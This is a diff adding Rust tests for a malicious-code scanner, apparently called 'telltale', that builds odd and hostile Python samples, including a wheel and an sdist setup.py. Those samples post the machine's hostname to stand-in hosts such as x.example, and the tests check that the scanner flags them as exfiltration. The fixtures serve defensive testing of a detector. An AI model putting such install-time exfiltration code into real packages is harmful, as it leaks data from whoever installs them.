@@ -139,6 +139,58 @@ fn odd_files_are_survived() {
 }
 
 #[test]
+fn odd_python_files_are_survived() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "empty.py", b"");
+    write(dir.path(), "binary.py", &[0u8, 159, 146, 150, 0, 1, 2]);
+    write(dir.path(), "invalid_utf8.py", b"x = '\xff\xfe'\nimport socket\nsocket.gethostname()\n");
+    write(dir.path(), "broken.py", b"def (:\n  ))))\n");
+    write(dir.path(), "py2.py", b"print 'x'\nexcept Exception, e:\n  pass\n");
+    write(dir.path(), "neg.py", format!("x = {}1\n", "-".repeat(1_000_000)).as_bytes());
+    write(dir.path(), "lists.py", format!("x = {}{}\n", "[".repeat(50_000), "]".repeat(50_000)).as_bytes());
+    write(dir.path(), "defs.py", (0..2_000).map(|i| format!("{}def f():\n", " ".repeat(i))).chain([format!("{}pass\n", " ".repeat(2_000))]).collect::<String>().as_bytes());
+    write(dir.path(), "concat.py", format!("x = {}\n", vec!["'a'"; 200_000].join(" + ")).as_bytes());
+    let mut big = b"import socket, requests\ns = '".to_vec();
+    big.extend(std::iter::repeat_n(b'a', 20 << 20));
+    big.extend(b"'\nrequests.post('https://x.example', data=socket.gethostname())\n");
+    write(dir.path(), "big.py", &big);
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
+    assert!(out.status.code() == Some(0) || out.status.code() == Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let findings = doc["targets"][0]["findings"].as_array().unwrap();
+    assert!(findings.iter().any(|f| f["file"] == "big.py" && f["category"] == "exfiltration"));
+    let warnings = doc["targets"][0]["warnings"].to_string();
+    assert!(warnings.contains("broken.py") && warnings.contains("nested deeper"), "{warnings}");
+}
+
+#[test]
+fn python_wheels_and_sdists_load() {
+    use std::io::Cursor;
+    let dir = tempfile::tempdir().unwrap();
+    let code = b"import socket, requests\nrequests.post('https://x.example.top', data=socket.gethostname())\n";
+    // A wheel is a zip named .whl.
+    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    w.start_file("pkg/__init__.py", zip::write::SimpleFileOptions::default()).unwrap();
+    w.write_all(code).unwrap();
+    write(dir.path(), "pkg-1.0-py3-none-any.whl", &w.finish().unwrap().into_inner());
+    // An sdist whose setup.py sends at install time.
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
+    let mut header = tar::Header::new_gnu();
+    header.set_size(code.len() as u64);
+    header.set_mode(0o644);
+    tar.append_data(&mut header, "pkg-1.0/setup.py", &code[..]).unwrap();
+    write(dir.path(), "pkg-1.0.tar.gz", &tar.into_inner().unwrap().finish().unwrap());
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path().join("pkg-1.0-py3-none-any.whl")).arg(dir.path().join("pkg-1.0.tar.gz")).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let exfil = |t: usize| doc["targets"][t]["findings"].as_array().unwrap().iter().find(|f| f["category"] == "exfiltration").cloned().unwrap_or_default();
+    assert_eq!(exfil(0)["file"], "pkg/__init__.py", "{doc}");
+    assert_eq!(exfil(0)["severity"], "high");
+    assert_eq!(exfil(1)["file"], "pkg-1.0/setup.py");
+    assert_eq!(exfil(1)["severity"], "critical", "setup.py runs at install time");
+    assert_eq!(exfil(1)["install_time"], true);
+}
+
+#[test]
 fn rules_and_explain() {
     let out = telltale().arg("rules").output().unwrap();
     assert!(String::from_utf8_lossy(&out.stdout).contains("TT201"));
